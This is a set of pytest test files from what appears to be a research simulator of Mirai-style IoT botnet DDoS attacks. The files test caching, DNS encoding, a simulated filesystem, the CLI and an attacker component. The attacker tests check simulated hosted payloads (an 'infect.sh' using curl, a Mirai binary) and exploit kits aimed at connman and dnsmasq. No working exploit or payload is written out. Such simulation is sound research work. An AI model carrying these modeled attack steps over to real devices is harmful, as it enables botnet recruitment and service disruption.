from repro.serialization import (
    config_to_canonical_json,
    result_from_dict,
    result_from_json,
    result_to_dict,
    result_to_json,
)


def tiny_config(**overrides):
    defaults = dict(
        n_devs=2, seed=1, attack_duration=5.0,
        recruit_timeout=20.0, sim_duration=60.0,
    )
    defaults.update(overrides)
    return SimulationConfig(**defaults)


def fake_result(n_devs=2, seed=1) -> RunResult:
    return RunResult(
        n_devs=n_devs,
        seed=seed,
        churn_mode="none",
        attack_duration=5.0,
        recruitment=RecruitmentStats(devs_total=n_devs, by_binary={"connman": 1}),
        attack=AttackStatsSummary(avg_received_kbps=12.5),
        churn=ChurnSummary(),
        resources=ResourceReport(
            n_devs=n_devs, pre_attack_mem_gb=1.0,
            attack_mem_gb=1.5, attack_time_s=61.0,
        ),
        rate_series_kbps=[1.0, 2.0],
        events_executed=100,
        sim_end_time=60.0,
    )


def fake_point(config) -> CachedRun:
    return CachedRun(
        results=[fake_result(config.n_devs, config.seed)],
        metrics={"counters": {"x": {"": 1.0}}},
        extra={"tag": config.n_devs},
    )


# ----------------------------------------------------------------------
# Fingerprinting
# ----------------------------------------------------------------------
class TestRunKey:
    def test_equal_configs_share_a_key(self):
        assert run_key(tiny_config()) == run_key(tiny_config())

    def test_seed_change_misses(self):
        assert run_key(tiny_config(seed=1)) != run_key(tiny_config(seed=2))

    def test_config_change_misses(self):
        assert run_key(tiny_config(n_devs=2)) != run_key(tiny_config(n_devs=3))

    def test_fault_plan_change_misses(self):
        plan = FaultPlan(faults=({"kind": "churn", "at": 10.0},))
        keys = {
            run_key(tiny_config()),
            run_key(tiny_config(faults=plan)),
            run_key(tiny_config(faults=plan.scaled(0.5))),
        }
        assert len(keys) == 3

    def test_code_salt_changes_key(self):
        config = tiny_config()
        assert run_key(config, salt="a") != run_key(config, salt="b")

    def test_code_salt_is_memoised_and_stable(self):
        assert code_salt() == code_salt()
        assert len(code_salt()) == 64

    def test_canonical_json_is_key_stable(self):
        text = config_to_canonical_json(tiny_config())
        assert text == config_to_canonical_json(tiny_config())
        assert "\n" not in text and ": " not in text
        assert json.loads(text)["n_devs"] == 2


# ----------------------------------------------------------------------
# Result round-trip (the deserialize half of a cache hit)
# ----------------------------------------------------------------------
class TestResultRoundTrip:
    def test_dict_round_trip_is_byte_identical(self):
        result = fake_result()
        rebuilt = result_from_dict(result_to_dict(result))
        assert result_to_json(rebuilt) == result_to_json(result)
        assert dataclasses.asdict(rebuilt) == dataclasses.asdict(result)

    def test_json_round_trip_of_real_run(self):
        from repro.core.framework import DDoSim

        result = DDoSim(tiny_config()).run()
        rebuilt = result_from_json(result_to_json(result))
        assert result_to_json(rebuilt) == result_to_json(result)


# ----------------------------------------------------------------------
# The store
# ----------------------------------------------------------------------
class TestRunCache:
    def test_get_put_round_trip(self, tmp_path):
        cache = RunCache(root=str(tmp_path / "c"))
        config = tiny_config()
        assert cache.get(config) is None
        cache.put(config, fake_point(config))
        hit = cache.get(config)
        assert hit is not None
        assert hit.result.n_devs == 2
        assert hit.extra == {"tag": 2}
        assert hit.metrics == {"counters": {"x": {"": 1.0}}}

    def test_put_leaves_no_temp_files(self, tmp_path):
        cache = RunCache(root=str(tmp_path / "c"))
        cache.put(tiny_config(), fake_point(tiny_config()))
        strays = [
            name
            for _dir, _sub, names in os.walk(str(tmp_path / "c"))
            for name in names
            if name.startswith(".tmp-")
        ]
        assert strays == []

    def test_corrupt_blob_is_a_miss_and_removed(self, tmp_path):
        cache = RunCache(root=str(tmp_path / "c"))
        config = tiny_config()
        cache.put(config, fake_point(config))
        path = cache._blob_path(cache.key_for(config))
        with open(path, "w", encoding="utf-8") as handle:
            handle.write('{"version": 1, "key": "truncated')
        assert cache.get(config) is None
        assert not os.path.exists(path)

    def test_salt_mismatch_is_a_miss(self, tmp_path):
        root = str(tmp_path / "c")
        config = tiny_config()
        RunCache(root=root, salt="engine-v1").put(config, fake_point(config))
        assert RunCache(root=root, salt="engine-v2").get(config) is None
        assert RunCache(root=root, salt="engine-v1").get(config) is not None

    def test_gc_evicts_least_recently_used(self, tmp_path):
        cache = RunCache(root=str(tmp_path / "c"), max_bytes=10**9)
        configs = [tiny_config(seed=seed) for seed in (1, 2, 3)]
        for index, config in enumerate(configs):
            cache.put(config, fake_point(config))
            path = cache._blob_path(cache.key_for(config))
            os.utime(path, (index, index))  # deterministic recency order
        blob_size = os.path.getsize(
            cache._blob_path(cache.key_for(configs[0]))
        )
        evicted = cache.gc(max_bytes=2 * blob_size + blob_size // 2)
        assert evicted == 1
        assert cache.get(configs[0]) is None  # oldest went first
        assert cache.get(configs[1]) is not None
        assert cache.get(configs[2]) is not None

    def test_clear_removes_everything(self, tmp_path):
        cache = RunCache(root=str(tmp_path / "c"))
        for seed in (1, 2):
            cache.put(tiny_config(seed=seed), fake_point(tiny_config(seed=seed)))
        assert cache.clear() == 2
        assert cache.stats()["entries"] == 0

    def test_stats_persist_across_instances(self, tmp_path):
        root = str(tmp_path / "c")
        first = RunCache(root=root)
        config = tiny_config()
        assert first.get(config) is None  # miss
        first.put(config, fake_point(config))
        first.commit_session()
        second = RunCache(root=root)
        assert second.get(config) is not None  # hit
        second.commit_session()
        stats = RunCache(root=root).stats()
        assert stats["hits"] == 1
        assert stats["misses"] == 1
        assert stats["stores"] == 1
        assert stats["last_sweep"] == {"hits": 1, "misses": 0, "hit_rate": 1.0}


# ----------------------------------------------------------------------
# Observability wiring
# ----------------------------------------------------------------------
class TestCacheObservability:
    def test_counters_gauge_and_traces(self, tmp_path):
        from repro.obs import Observatory

        obs = Observatory.full()
        cache = RunCache(root=str(tmp_path / "c"), observatory=obs)
        config = tiny_config()
        cache.get(config)  # miss
        cache.put(config, fake_point(config))
        cache.get(config)  # hit
        assert obs.metrics.value("cache_hits_total") == 1
        assert obs.metrics.value("cache_misses_total") == 1
        assert obs.metrics.value("cache_bytes") > 0
        assert len(obs.tracer.events("cache.hit")) == 1
        assert len(obs.tracer.events("cache.miss")) == 1
        assert len(obs.tracer.events("cache.store")) == 1


# ----------------------------------------------------------------------
# The incremental sweep engine
# ----------------------------------------------------------------------
class TestRunCached:
    def test_no_cache_is_plain_map(self):
        configs = [tiny_config(n_devs=n) for n in (2, 3)]
        runs = run_cached(fake_point, configs, cache=None)
        assert [run.extra["tag"] for run in runs] == [2, 3]

    def test_warm_sweep_recomputes_nothing(self, tmp_path):
        configs = [tiny_config(n_devs=n) for n in (2, 3, 4)]
        cache = RunCache(root=str(tmp_path / "c"))
        cold = run_cached(fake_point, configs, cache=cache)

        def explode(config):
            raise AssertionError("warm sweep must not recompute")

        warm = run_cached(explode, configs, cache=RunCache(root=str(tmp_path / "c")))
        assert [result_to_json(run.result) for run in warm] == [
            result_to_json(run.result) for run in cold
        ]
        assert [run.extra for run in warm] == [run.extra for run in cold]

    def test_interrupted_sweep_resumes_from_committed_points(self, tmp_path):
        configs = [tiny_config(n_devs=n) for n in (2, 3, 4, 5)]
        root = str(tmp_path / "c")
        executed = []

        def flaky(config):
            if config.n_devs == 4:
                raise RuntimeError("simulated interruption")
            executed.append(config.n_devs)
            return fake_point(config)

        with pytest.raises(RuntimeError):
            run_cached(flaky, configs, cache=RunCache(root=root))
        assert executed == [2, 3]  # committed before the interruption

        executed.clear()
        resumed = run_cached(fake_point, configs, cache=RunCache(root=root))
        assert [run.extra["tag"] for run in resumed] == [2, 3, 4, 5]
        # RunCache.get served 2 and 3; only 4 and 5 were simulated.
        stats = RunCache(root=root).stats()
        assert stats["last_sweep"] == {
            "hits": 2, "misses": 2, "hit_rate": 0.5,
        }

    def test_parallel_cached_sweep_matches_serial(self, tmp_path):
        configs = [tiny_config(seed=seed) for seed in (1, 2, 3)]
        serial = run_cached(fake_point, configs, jobs=1, cache=None)
        warm_root = str(tmp_path / "c")
        parallel = run_cached(
            fake_point, configs, jobs=2, cache=RunCache(root=warm_root)
        )
        assert [result_to_json(r.result) for r in parallel] == [
            result_to_json(r.result) for r in serial
        ]
        # All three points were committed from the parent process.
        assert RunCache(root=warm_root).stats()["entries"] == 3


def _hanging_point(config):
    """Sweep point that hangs on the poison seed (module-level so the
    supervised workers can pickle it under spawn)."""
    if config.seed == 99:
        time.sleep(60)
    return fake_point(config)


class TestQuarantinedSweep:
    def test_poison_point_is_quarantined_and_never_cached(self, tmp_path):
        cache = RunCache(root=str(tmp_path / "c"))
        configs = [tiny_config(seed=seed) for seed in (1, 99, 3)]
        supervision = Supervision(point_timeout=1.0, retries=0,
                                  backoff_base=0.05)
        results = run_cached(_hanging_point, configs, jobs=2, cache=cache,
                             supervision=supervision)
        poison = results[1]
        assert isinstance(poison, QuarantinedPoint)
        assert poison.index == 1  # re-keyed from miss position to grid slot
        assert poison.reason == "timeout"
        assert results[0].extra["tag"] == 2
        assert results[2].extra["tag"] == 2
        # The completed points were committed; the quarantined one was
        # not, so the next sweep retries exactly that slot.
        fresh = RunCache(root=str(tmp_path / "c"))
        assert fresh.get(configs[0]) is not None
        assert fresh.get(configs[1]) is None
        assert fresh.get(configs[2]) is not None
        rerun = run_cached(fake_point, configs,
                           cache=RunCache(root=str(tmp_path / "c")))
        assert not any(isinstance(r, QuarantinedPoint) for r in rerun)
        assert [r.extra["tag"] for r in rerun] == [2, 2, 2]


# ----------------------------------------------------------------------
# stats.json hardening
# ----------------------------------------------------------------------
class TestStatsHardening:
    def test_interrupted_persist_keeps_old_stats_and_no_temp(
        self, tmp_path, monkeypatch
    ):
        root = str(tmp_path / "c")
        cache = RunCache(root=root)
        cache.session_misses = 2
        cache.commit_session()
        stats_path = os.path.join(root, "stats.json")
        with open(stats_path, encoding="utf-8") as handle:
            before = handle.read()

        def explode(*_args, **_kwargs):
            raise KeyboardInterrupt  # ^C mid-serialization

        cache.session_hits = 7
        monkeypatch.setattr(json, "dump", explode)
        with pytest.raises(KeyboardInterrupt):
            cache.commit_session()
        monkeypatch.undo()
        with open(stats_path, encoding="utf-8") as handle:
            assert handle.read() == before  # rename never happened
        leftovers = [name for name in os.listdir(root)
                     if name.startswith(".tmp-")]
        assert leftovers == []

    def test_torn_stats_file_recovers_to_defaults(self, tmp_path):
        root = str(tmp_path / "c")
        cache = RunCache(root=root)
        os.makedirs(root, exist_ok=True)
        with open(os.path.join(root, "stats.json"), "w",
                  encoding="utf-8") as handle:
            handle.write('{"hits": 3, "mis')  # torn non-atomic write
        stats = cache.stats()
        assert stats["hits"] == 0  # unreadable -> clean slate
        cache.session_hits = 1
        cache.commit_session()
        with open(os.path.join(root, "stats.json"),
                  encoding="utf-8") as handle:
            assert json.load(handle)["hits"] == 1


# ----------------------------------------------------------------------
# CLI: sweep cache flags + the cache subcommand
# ----------------------------------------------------------------------
class TestCacheCli:
    def test_sweep_then_cache_subcommands(self, capsys, tmp_path):
        from repro.cli import main

        cache_dir = str(tmp_path / "cc")
        sweep = ["table1", "--grid", "2", "--cache-dir", cache_dir]
        assert main(sweep) == 0
        cold = capsys.readouterr().out
        assert main(sweep) == 0
        assert capsys.readouterr().out == cold

        assert main(["cache", "stats", "--cache-dir", cache_dir]) == 0
        stats_out = capsys.readouterr().out
        assert "entries    1" in stats_out
        assert "last sweep 1/1 hits (100%)" in stats_out

        assert main(["cache", "gc", "--cache-dir", cache_dir,
                     "--max-bytes", "0"]) == 0
        assert "evicted 1" in capsys.readouterr().out
        assert main(["cache", "clear", "--cache-dir", cache_dir]) == 0
        assert "removed 0" in capsys.readouterr().out

    def test_no_cache_flag_skips_the_store(self, capsys, tmp_path):
        from repro.cli import main

        cache_dir = tmp_path / "cc"
        assert main(["table1", "--grid", "2", "--no-cache",
                     "--cache-dir", str(cache_dir)]) == 0
        capsys.readouterr()
        assert not cache_dir.exists()


# ----------------------------------------------------------------------
# End-to-end: a real sweep through the real engine
# ----------------------------------------------------------------------
class TestSweepEndToEnd:
    def test_figure2_warm_rerun_is_byte_identical(self, tmp_path):
        from repro.core.experiment import run_figure2

        base = tiny_config()
        kwargs = dict(
            devs_grid=(2, 3), churn_modes=("none",), seed=1, base_config=base,
        )
        root = str(tmp_path / "c")
        cold = run_figure2(cache=RunCache(root=root), **kwargs)
        warm_cache = RunCache(root=root)
        warm = run_figure2(cache=warm_cache, **kwargs)
        assert json.dumps(cold, sort_keys=True) == json.dumps(warm, sort_keys=True)
        assert warm_cache.stats()["last_sweep"] == {
            "hits": 2, "misses": 0, "hit_rate": 1.0,
        }
        no_cache = run_figure2(**kwargs)
        assert json.dumps(no_cache, sort_keys=True) == json.dumps(
            cold, sort_keys=True
        )

    def test_fault_sweep_extra_scalars_survive_the_cache(self, tmp_path):
        from repro.core.experiment import run_fault_sweep

        plan = FaultPlan()
        base = tiny_config()
        root = str(tmp_path / "c")
        cold = run_fault_sweep(
            plan, intensity_grid=(0.0, 1.0), n_devs=2, base_config=base,
            cache=RunCache(root=root),
        )
        warm = run_fault_sweep(
            plan, intensity_grid=(0.0, 1.0), n_devs=2, base_config=base,
            cache=RunCache(root=root),
        )
        assert json.dumps(cold, sort_keys=True) == json.dumps(warm, sort_keys=True)
