"""Unit + property tests for the DNS wire format."""

import pytest
from hypothesis import given, strategies as st

from repro.services.dns import (
    CLASS_IN,
    DnsDecodeError,
    DnsMessage,
    DnsQuestion,
    DnsResourceRecord,
    FLAG_QR,
    FLAG_RD,
    RCODE_SERVFAIL,
    TYPE_A,
    TYPE_TXT,
    decode_name,
    encode_name,
    make_query,
    make_response,
)


class TestNames:
    def test_roundtrip_simple(self):
        encoded = encode_name("time.example.com")
        name, offset = decode_name(encoded, 0)
        assert name == "time.example.com"
        assert offset == len(encoded)

    def test_root_name(self):
        assert encode_name("") == b"\x00"
        assert decode_name(b"\x00", 0) == ("", 1)

    def test_trailing_dot_ignored(self):
        assert encode_name("a.b.") == encode_name("a.b")

    def test_long_label_rejected(self):
        with pytest.raises(DnsDecodeError):
            encode_name("x" * 64 + ".com")

    def test_empty_label_rejected(self):
        with pytest.raises(DnsDecodeError):
            encode_name("a..b")

    def test_truncated_name_rejected(self):
        with pytest.raises(DnsDecodeError):
            decode_name(b"\x05ab", 0)

    @given(
        st.lists(
            st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=20),
            min_size=1,
            max_size=6,
        )
    )
    def test_roundtrip_property(self, labels):
        name = ".".join(labels)
        decoded, _ = decode_name(encode_name(name), 0)
        assert decoded == name


class TestMessages:
    def test_query_roundtrip(self):
        query = make_query(0x1234, "host.example", TYPE_A)
        decoded = DnsMessage.decode(query.encode())
        assert decoded.id == 0x1234
        assert not decoded.is_response
        assert decoded.flags & FLAG_RD
        assert decoded.questions[0].name == "host.example"
        assert decoded.questions[0].qtype == TYPE_A

    def test_response_roundtrip_with_binary_rdata(self):
        """RDATA must carry arbitrary bytes — the exploit payload path."""
        query = make_query(7, "victim.example")
        payload = bytes(range(256)) * 3
        response = make_response(
            query, [DnsResourceRecord("victim.example", TYPE_TXT, payload)]
        )
        decoded = DnsMessage.decode(response.encode())
        assert decoded.is_response
        assert decoded.id == 7
        assert decoded.answers[0].rdata == payload
        assert decoded.answers[0].rtype == TYPE_TXT

    def test_servfail_rcode(self):
        message = DnsMessage(id=1, flags=FLAG_QR | RCODE_SERVFAIL)
        decoded = DnsMessage.decode(message.encode())
        assert decoded.rcode == RCODE_SERVFAIL

    def test_multiple_answers(self):
        query = make_query(1, "a.b")
        response = make_response(
            query,
            [
                DnsResourceRecord("a.b", TYPE_A, b"\x0a\x00\x00\x01"),
                DnsResourceRecord("a.b", TYPE_TXT, b"text"),
            ],
        )
        decoded = DnsMessage.decode(response.encode())
        assert len(decoded.answers) == 2

    @pytest.mark.parametrize(
        "blob",
        [b"", b"\x00\x01", b"\x00" * 11, b"\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05abc"],
    )
    def test_malformed_rejected(self, blob):
        with pytest.raises(DnsDecodeError):
            DnsMessage.decode(blob)

    def test_truncated_rdata_rejected(self):
        query = make_query(1, "x.y")
        response = make_response(query, [DnsResourceRecord("x.y", TYPE_A, b"abcd")])
        blob = response.encode()[:-2]
        with pytest.raises(DnsDecodeError):
            DnsMessage.decode(blob)

    @given(st.integers(min_value=0, max_value=0xFFFF), st.binary(max_size=200))
    def test_answer_rdata_roundtrip_property(self, message_id, rdata):
        query = make_query(message_id, "p.q")
        response = make_response(query, [DnsResourceRecord("p.q", TYPE_TXT, rdata)])
        decoded = DnsMessage.decode(response.encode())
        assert decoded.answers[0].rdata == rdata
        assert decoded.id == message_id
