"""Unit + property tests for the in-memory container filesystem."""

import pytest
from hypothesis import given, strategies as st

from repro.container.fs import (
    FileEntry,
    FilesystemError,
    InMemoryFilesystem,
    normalize_path,
)


class TestPathNormalization:
    @pytest.mark.parametrize(
        "raw,expected",
        [
            ("/a/b", "/a/b"),
            ("a/b", "/a/b"),
            ("/a//b/", "/a/b"),
            ("/a/./b", "/a/b"),
            ("/a/../b", "/b"),
            ("/../../x", "/x"),
            ("/", "/"),
        ],
    )
    def test_cases(self, raw, expected):
        assert normalize_path(raw) == expected

    def test_empty_rejected(self):
        with pytest.raises(FilesystemError):
            normalize_path("")

    @given(st.lists(st.sampled_from(["a", "b", ".", "..", "c"]), max_size=8))
    def test_normalized_is_idempotent(self, segments):
        path = "/" + "/".join(segments)
        once = normalize_path(path)
        assert normalize_path(once) == once
        assert once.startswith("/")
        assert ".." not in once.split("/")


class TestFileOperations:
    def test_write_read_roundtrip(self):
        fs = InMemoryFilesystem()
        fs.write_file("/etc/config", b"key=value")
        assert fs.read_file("/etc/config") == b"key=value"

    def test_missing_file_raises(self):
        fs = InMemoryFilesystem()
        with pytest.raises(FilesystemError):
            fs.read_file("/nope")

    def test_exists(self):
        fs = InMemoryFilesystem()
        fs.write_file("/x", b"")
        assert fs.exists("/x")
        assert fs.exists("x")  # path normalization
        assert not fs.exists("/y")

    def test_remove(self):
        fs = InMemoryFilesystem()
        fs.write_file("/x", b"1")
        fs.remove("/x")
        assert not fs.exists("/x")
        with pytest.raises(FilesystemError):
            fs.remove("/x")

    def test_chmod_and_executable(self):
        fs = InMemoryFilesystem()
        fs.write_file("/bin/tool", b"#!", mode=0o644)
        assert not fs.entry("/bin/tool").executable
        fs.chmod("/bin/tool", 0o755)
        assert fs.entry("/bin/tool").executable

    def test_append_creates_or_extends(self):
        fs = InMemoryFilesystem()
        fs.append("/log", b"one\n")
        fs.append("/log", b"two\n")
        assert fs.read_file("/log") == b"one\ntwo\n"

    def test_overwrite_replaces(self):
        fs = InMemoryFilesystem()
        fs.write_file("/x", b"old")
        fs.write_file("/x", b"new")
        assert fs.read_file("/x") == b"new"

    def test_list_dir_prefix(self):
        fs = InMemoryFilesystem()
        for path in ("/var/www/a", "/var/www/b", "/etc/x"):
            fs.write_file(path, b"")
        assert fs.list_dir("/var/www") == ["/var/www/a", "/var/www/b"]

    def test_total_bytes_and_count(self):
        fs = InMemoryFilesystem()
        fs.write_file("/a", b"12345")
        fs.write_file("/b", b"123")
        assert fs.total_bytes == 8
        assert fs.file_count == 2


class TestLayering:
    def test_clone_is_independent(self):
        base = InMemoryFilesystem()
        base.write_file("/shared", b"base")
        clone = base.clone()
        clone.write_file("/shared", b"changed")
        clone.write_file("/new", b"x")
        assert base.read_file("/shared") == b"base"
        assert not base.exists("/new")

    def test_clone_preserves_programs(self):
        def program(ctx):
            yield None

        base = InMemoryFilesystem()
        base.write_file("/bin/daemon", b"elf", mode=0o755, program=program)
        clone = base.clone()
        assert clone.entry("/bin/daemon").program is program

    def test_overlay_applies_on_top(self):
        lower = InMemoryFilesystem()
        lower.write_file("/a", b"lower")
        upper = InMemoryFilesystem()
        upper.write_file("/a", b"upper")
        upper.write_file("/b", b"only-upper")
        lower.overlay(upper)
        assert lower.read_file("/a") == b"upper"
        assert lower.read_file("/b") == b"only-upper"

    @given(
        st.dictionaries(
            st.from_regex(r"/[a-z]{1,6}(/[a-z]{1,6}){0,2}", fullmatch=True),
            st.binary(max_size=64),
            max_size=10,
        )
    )
    def test_clone_equals_original_property(self, files):
        fs = InMemoryFilesystem()
        for path, data in files.items():
            fs.write_file(path, data)
        clone = fs.clone()
        assert list(clone.walk()) == list(fs.walk())
        assert clone.total_bytes == fs.total_bytes
