"""Tests for config/result serialization and the CLI."""

import json

import pytest

from repro.cli import build_parser, main
from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.serialization import (
    config_from_dict,
    config_from_json,
    config_to_dict,
    config_to_json,
    result_to_dict,
    result_to_json,
    rows_to_csv,
)


class TestConfigSerialization:
    def test_roundtrip_defaults(self):
        config = SimulationConfig(n_devs=25, seed=9)
        restored = config_from_json(config_to_json(config))
        assert restored == config

    def test_roundtrip_customized(self):
        config = SimulationConfig(
            n_devs=7,
            churn="dynamic",
            churn_phi=(0.3, 0.2, 0.1),
            dev_rate_kbps=(50.0, 200.0),
            protection_profiles=(("wx",), ()),
            binary_mix="connman",
        )
        restored = config_from_json(config_to_json(config))
        assert restored == config

    def test_unknown_field_rejected(self):
        data = config_to_dict(SimulationConfig(n_devs=3))
        data["warp_speed"] = True
        with pytest.raises(ValueError, match="unknown config fields"):
            config_from_dict(data)

    def test_json_is_plain_types(self):
        parsed = json.loads(config_to_json(SimulationConfig(n_devs=3)))
        assert parsed["n_devs"] == 3
        assert isinstance(parsed["protection_profiles"], list)


class TestResultSerialization:
    @pytest.fixture(scope="class")
    def result(self):
        config = SimulationConfig(
            n_devs=3, seed=2, attack_duration=10.0,
            recruit_timeout=30.0, sim_duration=120.0,
        )
        return DDoSim(config).run()

    def test_result_round_trips_through_json(self, result):
        parsed = json.loads(result_to_json(result))
        assert parsed["n_devs"] == 3
        assert parsed["recruitment"]["bots_recruited"] == 3
        assert parsed["attack"]["avg_received_kbps"] > 0
        assert isinstance(parsed["rate_series_kbps"], list)

    def test_result_dict_has_nested_dataclasses(self, result):
        data = result_to_dict(result)
        assert set(data["churn"]) == {"mode", "departures", "rejoins", "online_at_end"}
        assert "attack_time_s" in data["resources"]


class TestRowsCsv:
    def test_renders_header_and_rows(self):
        csv = rows_to_csv([{"a": 1, "b": "x"}, {"a": 2, "b": "y"}])
        lines = csv.strip().splitlines()
        assert lines[0] == "a,b"
        assert lines[1] == "1,x"
        assert lines[2] == "2,y"

    def test_empty(self):
        assert rows_to_csv([]) == ""


class TestCli:
    def test_parser_has_all_commands(self):
        parser = build_parser()
        text = parser.format_help()
        for command in ("run", "figure2", "figure3", "table1", "figure4",
                        "recruitment", "epidemic"):
            assert command in text

    def test_run_command(self, capsys, tmp_path):
        out = tmp_path / "result.json"
        code = main([
            "run", "--devs", "2", "--duration", "10", "--seed", "3",
            "--json", str(out),
        ])
        assert code == 0
        captured = capsys.readouterr().out
        assert "infection_rate" in captured
        data = json.loads(out.read_text())
        assert data["n_devs"] == 2

    def test_run_with_config_file(self, capsys, tmp_path):
        config_path = tmp_path / "config.json"
        config = SimulationConfig(
            n_devs=2, seed=5, attack_duration=10.0,
            recruit_timeout=30.0, sim_duration=120.0,
        )
        config_path.write_text(config_to_json(config))
        code = main(["run", "--config", str(config_path)])
        assert code == 0
        assert "2" in capsys.readouterr().out

    def test_recruitment_command_writes_csv(self, capsys, tmp_path):
        out = tmp_path / "rows.csv"
        code = main(["recruitment", "--devs", "2", "--csv", str(out),
                     "--cache-dir", str(tmp_path / "cache")])
        assert code == 0
        lines = out.read_text().strip().splitlines()
        assert lines[0].startswith("binary,")
        assert len(lines) == 9  # header + 8 combos

    def test_invalid_command_exits(self):
        with pytest.raises(SystemExit):
            main(["frobnicate"])
