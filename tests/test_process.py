"""Unit tests for coroutine processes, futures and combinators."""

import pytest

from repro.netsim.process import (
    AllOf,
    AnyOf,
    ProcessKilled,
    SimFuture,
    SimProcess,
    Timeout,
)
from tests.conftest import drive


class TestSimFuture:
    def test_succeed_delivers_value(self, sim):
        future = SimFuture(sim)
        seen = []
        future.add_callback(lambda f: seen.append(f.value))
        future.succeed(42)
        assert seen == [42]
        assert future.ok

    def test_callback_after_resolution_fires_immediately(self, sim):
        future = SimFuture(sim)
        future.succeed("done")
        seen = []
        future.add_callback(lambda f: seen.append(f.value))
        assert seen == ["done"]

    def test_fail_records_error(self, sim):
        future = SimFuture(sim)
        future.fail(ValueError("bad"))
        assert future.done and not future.ok
        assert isinstance(future.error, ValueError)

    def test_double_resolution_rejected(self, sim):
        future = SimFuture(sim)
        future.succeed(1)
        with pytest.raises(RuntimeError):
            future.succeed(2)


class TestTimeout:
    def test_timeout_fires_after_delay(self, sim):
        timeout = Timeout(sim, 3.0, value="ping")
        sim.run()
        assert timeout.ok
        assert timeout.value == "ping"
        assert sim.now == 3.0

    def test_cancelled_timeout_never_fires(self, sim):
        timeout = Timeout(sim, 3.0)
        timeout.cancel()
        sim.run()
        assert not timeout.done


class TestSimProcess:
    def test_returns_generator_value(self, sim):
        def worker():
            yield Timeout(sim, 1.0)
            return "result"

        assert drive(sim, worker()) == "result"

    def test_receives_future_values(self, sim):
        def worker():
            value = yield Timeout(sim, 1.0, value=10)
            return value * 2

        assert drive(sim, worker()) == 20

    def test_sequential_timeouts_advance_clock(self, sim):
        def worker():
            yield Timeout(sim, 1.0)
            yield Timeout(sim, 2.0)
            return sim.now

        assert drive(sim, worker()) == 3.0

    def test_failed_future_raises_inside_generator(self, sim):
        def worker():
            future = SimFuture(sim)
            sim.schedule(1.0, future.fail, RuntimeError("boom"))
            try:
                yield future
            except RuntimeError as error:
                return f"caught {error}"

        assert drive(sim, worker()) == "caught boom"

    def test_uncaught_exception_fails_process(self, sim):
        def worker():
            yield Timeout(sim, 1.0)
            raise KeyError("oops")

        process = SimProcess(sim, worker())
        sim.run()
        assert process.done
        assert isinstance(process.error, KeyError)

    def test_yielding_non_future_is_an_error(self, sim):
        def worker():
            yield 42

        process = SimProcess(sim, worker())
        sim.run()
        assert isinstance(process.error, TypeError)

    def test_kill_raises_processkilled(self, sim):
        cleaned = []

        def worker():
            try:
                yield Timeout(sim, 100.0)
            finally:
                cleaned.append(True)

        process = SimProcess(sim, worker())
        sim.schedule(1.0, process.kill)
        sim.run()
        assert cleaned == [True]
        assert isinstance(process.error, ProcessKilled)

    def test_kill_after_completion_is_noop(self, sim):
        def worker():
            yield Timeout(sim, 1.0)
            return "ok"

        process = SimProcess(sim, worker())
        sim.run()
        process.kill()
        sim.run()
        assert process.value == "ok"

    def test_process_waits_on_process(self, sim):
        def inner():
            yield Timeout(sim, 2.0)
            return "inner-value"

        def outer():
            value = yield SimProcess(sim, inner())
            return f"got {value}"

        assert drive(sim, outer()) == "got inner-value"

    def test_yield_from_subgenerator(self, sim):
        def helper():
            yield Timeout(sim, 1.0)
            return 5

        def worker():
            value = yield from helper()
            return value + 1

        assert drive(sim, worker()) == 6


class TestCombinators:
    def test_allof_waits_for_every_child(self, sim):
        futures = [Timeout(sim, t) for t in (1.0, 3.0, 2.0)]

        def worker():
            yield AllOf(sim, futures)
            return sim.now

        assert drive(sim, worker()) == 3.0

    def test_allof_with_no_children_resolves_immediately(self, sim):
        both = AllOf(sim, [])
        assert both.done

    def test_anyof_resolves_with_first_child(self, sim):
        fast = Timeout(sim, 1.0, value="fast")
        slow = Timeout(sim, 5.0, value="slow")

        def worker():
            winner = yield AnyOf(sim, [fast, slow])
            return winner.value

        assert drive(sim, worker()) == "fast"

    def test_anyof_identifies_winner_object(self, sim):
        fast = Timeout(sim, 1.0)
        slow = Timeout(sim, 5.0)

        def worker():
            winner = yield AnyOf(sim, [fast, slow])
            return winner is fast

        assert drive(sim, worker()) is True
