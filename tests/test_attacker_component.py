"""Unit-level tests for the Attacker component's services and state."""

import pytest

from repro.core import DDoSim, SimulationConfig


def small_config(**overrides):
    defaults = dict(
        n_devs=3, seed=13, attack_duration=10.0,
        recruit_timeout=30.0, sim_duration=120.0,
    )
    defaults.update(overrides)
    return SimulationConfig(**defaults)


class TestAttackerAssembly:
    @pytest.fixture(scope="class")
    def built(self):
        ddosim = DDoSim(small_config())
        ddosim.build()
        return ddosim

    def test_attacker_container_filesystem(self, built):
        fs = built.attacker.container.fs
        for path in (
            "/bin/sh", "/usr/sbin/cnc", "/usr/sbin/apache2",
            "/usr/sbin/telnetd", "/usr/sbin/dnsd", "/usr/sbin/dhcp6x",
            "/sbin/init",
        ):
            assert fs.exists(path), f"missing {path}"
            assert fs.entry(path).executable

    def test_file_server_hosts_payloads(self, built):
        fs = built.attacker.container.fs
        assert fs.exists("/var/www/payload/infect.sh")
        assert fs.exists("/var/www/bins/mirai.x86_64")
        script = fs.read_file("/var/www/payload/infect.sh").decode()
        assert "curl" in script and "$ARCH" in script

    def test_hosted_mirai_is_loadable(self, built):
        from repro.binaries.binfmt import BinaryImage

        data = built.attacker.container.fs.read_file("/var/www/bins/mirai.x86_64")
        binary = BinaryImage.parse(data)
        assert binary.program_key == "mirai"

    def test_urls_point_at_attacker(self, built):
        urls = built.attacker.urls
        assert str(built.attacker.address) in urls.shellscript_url

    def test_exploit_kits_target_fleet_binaries(self, built):
        assert built.attacker.connman_kit.target is built.devs.connman_binary
        assert built.attacker.dnsmasq_kit.target is built.devs.dnsmasq_binary


class TestAttackerBehaviourCounters:
    @pytest.fixture(scope="class")
    def run(self):
        ddosim = DDoSim(small_config(n_devs=6))
        result = ddosim.run()
        return ddosim, result

    def test_two_stage_counts(self, run):
        ddosim, result = run
        attacker = ddosim.attacker
        # Every connman Dev got exactly one probe and >= one exploit; every
        # dnsmasq Dev answered a multicast probe and got one exploit.
        connman_count = sum(
            1 for dev in ddosim.devs.devs if dev.kind == "connman"
        )
        dnsmasq_count = len(ddosim.devs.devs) - connman_count
        assert attacker.dns_probes_sent == connman_count
        assert attacker.dns_exploits_sent == connman_count
        assert attacker.dhcp_exploits_sent == dnsmasq_count
        assert attacker.leaks_harvested == 6

